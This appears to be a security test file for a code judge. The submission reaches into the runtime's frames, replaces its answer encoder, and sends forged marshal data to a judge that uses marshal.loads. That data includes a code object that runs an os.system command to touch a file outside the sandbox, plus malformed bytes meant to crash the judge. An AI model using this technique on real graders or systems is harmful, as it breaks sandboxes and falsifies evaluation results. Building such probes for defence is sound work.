# what: sends a code object, references and every other code of marshal, for judges that use marshal.loads
# verdict: FAILED | CRASHED
# marker: outside
import marshal
import sys

MARK = StopIteration


def forge(raw):
    """Makes the runtime send these bytes, or this value in the channel's own layout, as the next answer."""
    wire = sys._getframe(2).f_globals["wire"]

    def encode(value, *rest):
        if type(raw) is bytes:
            return b"(\x02\x00\x00\x00" + raw + b"[\x00\x00\x00\x00" if len(rest) > 1 else raw
        return marshal.dumps((raw, []) if len(rest) > 1 else raw, 2)

    wire.encode = encode


CALLS = [0]
SHAPES = [marshal.dumps(compile("__import__('os').system('touch @OUTSIDE@/marshal')", "x", "exec")), b"r\x00\x00\x00\x00", b"\xdb\x01\x00\x00\x00r\x00\x00\x00\x00", b"c" * 100, b"\xe3", b"R\x00\x00\x00\x00", b"?", b"0", b"S"]


def solve(n, items):
    CALLS[0] += n
    forge(SHAPES[CALLS[0] % len(SHAPES)])
